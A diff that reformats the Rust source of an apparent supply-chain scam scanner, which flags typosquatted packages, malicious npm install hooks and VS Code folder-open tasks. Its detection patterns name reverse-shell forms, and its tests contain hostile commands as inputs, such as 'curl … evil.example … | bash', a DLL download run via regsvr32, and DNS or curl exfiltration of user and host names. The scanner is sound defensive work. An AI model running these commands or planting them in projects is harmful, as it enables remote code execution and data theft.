@@ -204,13 +204,7 @@ const CRATES: &[&str] = &[
 ];
 
 /// Real packages one edit away from a well-known one, published by someone else.
-const LEGIT_NEIGHBOURS: &[&str] = &[
-    "dotenvx",
-    "web3x",
-    "ethersv5",
-    "solana-py",
-    "solana-sdk-macro",
-];
+const LEGIT_NEIGHBOURS: &[&str] = &["dotenvx", "web3x", "ethersv5", "solana-py", "solana-sdk-macro"];
 
 /// Identity under each registry's own rules: PyPI folds case and treats runs of `-`, `_`,
 /// `.` as one (PEP 503); crates.io folds case and `-`/`_`; npm names are lower-case by rule,
@@ -260,9 +254,7 @@ pub fn osa_distance(a: &str, b: &str) -> usize {
     for i in 1..=n {
         for j in 1..=m {
             let cost = usize::from(a[i - 1] != b[j - 1]);
-            d[i][j] = (d[i - 1][j] + 1)
-                .min(d[i][j - 1] + 1)
-                .min(d[i - 1][j - 1] + cost);
+            d[i][j] = (d[i - 1][j] + 1).min(d[i][j - 1] + 1).min(d[i - 1][j - 1] + cost);
             if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                 d[i][j] = d[i][j].min(d[i - 2][j - 2] + 1);
             }
@@ -283,8 +275,7 @@ fn digit_swap(a: &str, b: &str) -> bool {
     let diff: Vec<usize> = (0..a.len()).filter(|&i| a[i] != b[i]).collect();
     let in_number = |s: &[u8], i: usize| {
         s[i].is_ascii_digit()
-            && ((i > 0 && s[i - 1].is_ascii_digit())
-                || s.get(i + 1).is_some_and(|c| c.is_ascii_digit()))
+            && ((i > 0 && s[i - 1].is_ascii_digit()) || s.get(i + 1).is_some_and(|c| c.is_ascii_digit()))
     };
     matches!(diff.as_slice(), [i] if in_number(a, *i) && in_number(b, *i))
 }
@@ -309,9 +300,7 @@ pub fn typosquat_of(eco: Ecosystem, name: &str) -> Option<&'static str> {
         Ecosystem::Crates => CRATES,
     };
     let id = identity(eco, name);
-    if known.iter().any(|k| identity(eco, k) == id)
-        || LEGIT_NEIGHBOURS.iter().any(|k| identity(eco, k) == id)
-    {
+    if known.iter().any(|k| identity(eco, k) == id) || LEGIT_NEIGHBOURS.iter().any(|k| identity(eco, k) == id) {
         return None;
     }
     let sk = skeleton(name);
@@ -328,8 +317,7 @@ pub fn typosquat_of(eco: Ecosystem, name: &str) -> Option<&'static str> {
         if own_scope.is_some() && own_scope == scope(k) {
             continue;
         }
-        if eco == Ecosystem::Npm && ks.len() >= 4 && !ks.ends_with("js") && sk == format!("{ks}js")
-        {
+        if eco == Ecosystem::Npm && ks.len() >= 4 && !ks.ends_with("js") && sk == format!("{ks}js") {
             return Some(k);
         }
         if sk.len() >= 5 && ks.len() >= 5 && osa_distance(&sk, &ks) == 1 && !digit_swap(&sk, &ks) {
@@ -405,10 +393,7 @@ pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
             let l = line.split(" #").next().unwrap_or("").trim();
             // Options (`-r`, `--hash`), comments, and local paths or bare URLs, which are
             // not installed by name.
-            if l.is_empty()
-                || l.starts_with(['-', '#', '.', '/'])
-                || (l.contains("://") && !l.contains(" @ "))
-            {
+            if l.is_empty() || l.starts_with(['-', '#', '.', '/']) || (l.contains("://") && !l.contains(" @ ")) {
                 continue;
             }
             let n: String = l
@@ -432,9 +417,7 @@ pub fn dependencies(path: &str, data: &[u8]) -> Vec<(Ecosystem, String)> {
 /// (`[dependencies.k]`). A `package = "…"` rename names the crate really fetched; `path`,
 /// `git` and `workspace = true` entries do not come from crates.io by that name.
 fn cargo_dependencies(text: &str, out: &mut Vec<(Ecosystem, String)>) {
-    let is_dep_table = |h: &str| {
-        h == "dependencies" || h.ends_with(".dependencies") || h.ends_with("-dependencies")
-    };
+    let is_dep_table = |h: &str| h == "dependencies" || h.ends_with(".dependencies") || h.ends_with("-dependencies");
     let package_of = |body: &str| -> Option<String> {
         let i = body.find("package")?;
         let rest = body[i + "package".len()..].trim_start().strip_prefix('=')?;
@@ -582,8 +565,7 @@ fn downloads_and_runs(lc: &str) -> bool {
 /// `bash -i >& /dev/tcp/host/port 0>&1`, `nc -e /bin/sh host port`: a shell handed to a
 /// remote host.
 fn reverse_shell(lc: &str) -> bool {
-    (lc.contains("/dev/tcp/") || lc.contains("/dev/udp/"))
-        && ["0>&1", ">&", "-i"].iter().any(|w| lc.contains(w))
+    (lc.contains("/dev/tcp/") || lc.contains("/dev/udp/")) && ["0>&1", ">&", "-i"].iter().any(|w| lc.contains(w))
         || ["nc ", "ncat ", "netcat "].iter().any(|w| lc.contains(w))
             && [" -e /bin/", " -e sh", " -e bash", " -c /bin/"]
                 .iter()
@@ -632,23 +614,14 @@ fn folder_open_task(path: &str, data: &[u8], out: &mut Vec<ScamFinding>) {
     });
 }
 
-fn install_hooks(
-    path: &str,
-    data: &[u8],
-    tree: &FileTree,
-    scans: &[FileScan],
-    out: &mut Vec<ScamFinding>,
-) {
+fn install_hooks(path: &str, data: &[u8], tree: &FileTree, scans: &[FileScan], out: &mut Vec<ScamFinding>) {
     let Ok(v) = serde_json::from_slice::<serde_json::Value>(data) else {
         return;
     };
     let Some(scripts) = v.get("scripts").and_then(|s| s.as_object()) else {
         return;
     };
-    let dir = path
-        .rsplit_once('/')
-        .map(|(d, _)| format!("{d}/"))
-        .unwrap_or_default();
+    let dir = path.rsplit_once('/').map(|(d, _)| format!("{d}/")).unwrap_or_default();
     for hook in INSTALL_HOOKS {
         let Some(cmd) = scripts.get(hook).and_then(|c| c.as_str()) else {
             continue;
@@ -787,8 +760,7 @@ fn install_hooks(
             // behaviour (a stealer, a beacon, a dropper) run on install is critical even
             // when the same code in a library would be high.
             let critical = fs.scam.iter().any(|f| {
-                f.severity == Severity::Critical
-                    || (f.check == "scam.malware" && f.severity >= Severity::High)
+                f.severity == Severity::Critical || (f.check == "scam.malware" && f.severity >= Severity::High)
             });
             let net = fs.count(Sig::NetworkUse) > 0;
             let spawn = fs.count(Sig::ProcessSpawn) > 0;
@@ -800,12 +772,7 @@ fn install_hooks(
                         .filter(|f| f.severity >= Severity::High)
                         .max_by_key(|f| f.severity);
                     match worst {
-                        Some(w) => format!(
-                            "runs {} ({}: {})",
-                            fs.path,
-                            w.title.to_lowercase(),
-                            w.detail
-                        ),
+                        Some(w) => format!("runs {} ({}: {})", fs.path, w.title.to_lowercase(), w.detail),
                         None => "runs a script with a critical finding".to_string(),
                     }
                 })
@@ -844,17 +811,11 @@ fn install_hooks(
 /// The script itself, or a local file it launches by name (`exec('compile.bat')`,
 /// `exec('/bin/bash preinstall.sh')`) if that one has a critical or high-severity
 /// scam.malware finding: the hook runs whatever the script runs.
-fn worst_of_chain<'a>(
-    fs: &'a FileScan,
-    dir: &str,
-    tree: &FileTree,
-    scans: &'a [FileScan],
-) -> &'a FileScan {
+fn worst_of_chain<'a>(fs: &'a FileScan, dir: &str, tree: &FileTree, scans: &'a [FileScan]) -> &'a FileScan {
     let bad = |s: &FileScan| {
-        s.scam.iter().any(|f| {
-            f.severity == Severity::Critical
-                || (f.check == "scam.malware" && f.severity >= Severity::High)
-        })
+        s.scam
+            .iter()
+            .any(|f| f.severity == Severity::Critical || (f.check == "scam.malware" && f.severity >= Severity::High))
     };
     if bad(fs) {
         return fs;
@@ -893,10 +854,7 @@ fn local_scripts(cmd: &str) -> Vec<String> {
                 .split_whitespace()
                 .skip_while(|w| matches!(*w, "start" | "/B" | "/b" | "cmd" | "/c" | "/C"));
             let first = it.next()?;
-            if !matches!(
-                first,
-                "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash"
-            ) {
+            if !matches!(first, "node" | "bun" | "deno" | "python" | "python3" | "sh" | "bash") {
                 return None;
             }
             it.find(|a| !a.starts_with('-'))
@@ -946,11 +904,7 @@ mod tests {
             (Crates, "anchor_langg", "anchor-lang"),
         ];
         for (eco, dep, real) in flagged {
-            assert_eq!(
-                typosquat_of(*eco, dep),
-                Some(*real),
-                "{dep} imitates {real}"
-            );
+            assert_eq!(typosquat_of(*eco, dep), Some(*real), "{dep} imitates {real}");
         }
         let clean: &[(Ecosystem, &str)] = &[
             // Siblings by the same publisher.
@@ -1030,22 +984,14 @@ mod tests {
 
     #[test]
     fn deps_parsing() {
-        let names = |path: &str, data: &[u8]| {
-            dependencies(path, data)
-                .into_iter()
-                .map(|(_, n)| n)
-                .collect::<Vec<_>>()
-        };
+        let names = |path: &str, data: &[u8]| dependencies(path, data).into_iter().map(|(_, n)| n).collect::<Vec<_>>();
         let pj = br#"{"dependencies":{"ethers":"^6","ethers5":"npm:ethers@5.7.2","sol":"npm:@solana/web3.js@^1","local":"file:../x","ws":"workspace:*","fork":"github:me/etherss","short":"me/repo","tgz":"https://x.example/a.tgz"},"devDependencies":{"etherss":"1"}}"#;
         assert_eq!(
             names("package.json", pj),
             vec!["ethers", "ethers", "@solana/web3.js", "etherss"]
         );
         let req = b"web3==6.0\n# c\n-r other.txt\nsolders>=0.18 ; python_version>'3'\neth-account[extra]~=0.9  # pinned\n./local/pkg\ngit+https://github.com/x/y.git#egg=etherss\nmypkg @ https://x.example/mypkg.whl\n    --hash=sha256:abc\n";
-        assert_eq!(
-            names("requirements.txt", req),
-            vec!["web3", "solders", "eth-account"]
-        );
+        assert_eq!(names("requirements.txt", req), vec!["web3", "solders", "eth-account"]);
         let ct = br#"[package]
 name = "x"
 version = "0.1.0"
@@ -1099,14 +1045,12 @@ default = ["serde"]
         // The install-script finding, and the piped download as malicious behaviour.
         assert_eq!(f.len(), 2, "{f:?}");
         assert!(f.iter().all(|f| f.severity == Severity::Critical));
-        assert_eq!(
-            f.iter()
-                .filter(|f| f.check == "scam.install_scripts")
-                .count(),
-            1
-        );
+        assert_eq!(f.iter().filter(|f| f.check == "scam.install_scripts").count(), 1);
         let mut tree = FileTree::default();
-        tree.add("package.json", r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#);
+        tree.add(
+            "package.json",
+            r#"{"name":"x","scripts":{"prepare":"husky install","postinstall":"node-gyp rebuild"}}"#,
+        );
         assert!(evaluate(&tree, &[]).is_empty());
     }
 
@@ -1127,10 +1071,7 @@ default = ["serde"]
             hook("nslookup $(whoami).$(hostname).x1.oast.fun"),
             Some(Severity::Critical)
         );
-        assert_eq!(
-            hook("curl https://x.example/c?u=$USER"),
-            Some(Severity::Critical)
-        );
+        assert_eq!(hook("curl https://x.example/c?u=$USER"), Some(Severity::Critical));
         assert_eq!(
             hook("node -e \"require('dns').lookup(require('os').hostname()+'.x.example')\""),
             Some(Severity::Critical)
@@ -1140,10 +1081,7 @@ default = ["serde"]
             hook("curl -fsSL https://github.com/a/b/releases/download/v1/b-$(uname -s).tgz -o $HOME/b.tgz"),
             Some(Severity::Critical)
         );
-        assert_eq!(
-            hook("node -e \"if (process.env.CI) process.exit(0)\""),
-            None
-        );
+        assert_eq!(hook("node -e \"if (process.env.CI) process.exit(0)\""), None);
         assert_eq!(hook("husky install"), None);
     }
 
@@ -1171,10 +1109,7 @@ default = ["serde"]
             );
             scanned(&[(".vscode/tasks.json", &json)])
         };
-        let bad = task(
-            "curl -s https://evil.example/task/linux | bash",
-            "folderOpen",
-        );
+        let bad = task("curl -s https://evil.example/task/linux | bash", "folderOpen");
         assert!(bad
             .iter()
             .any(|f| f.check == "scam.malware" && f.severity == Severity::Critical));
@@ -1204,8 +1139,7 @@ default = ["serde"]
 
     #[test]
     fn hook_follows_the_script_it_launches() {
-        let bat =
-            "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
+        let bat = "@echo off\ncurl https://cdn.evil.example/x.dll -o x.dll\nregsvr32.exe -s x.dll\n";
         let js = "const { exec } = require('child_process');\nexec('compile.bat', { windowsHide: true }, () => {});\n";
         let f = scanned(&[
             (
@@ -1244,9 +1178,7 @@ default = ["serde"]
         );
         // Near misses: a GET to a price API; the public key passed instead.
         let prices = queue.replace("method: 'POST',", "method: 'GET',");
-        assert!(
-            scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", &prices)]).is_empty()
-        );
+        assert!(scanned(&[("src/keypair.ts", keypair), ("src/utils/queue.ts", &prices)]).is_empty());
         let public = keypair.replace("Buffer.from(secretKey)", "Buffer.from(publicKey)");
         assert!(scanned(&[("src/keypair.ts", &public), ("src/utils/queue.ts", queue)]).is_empty());
     }
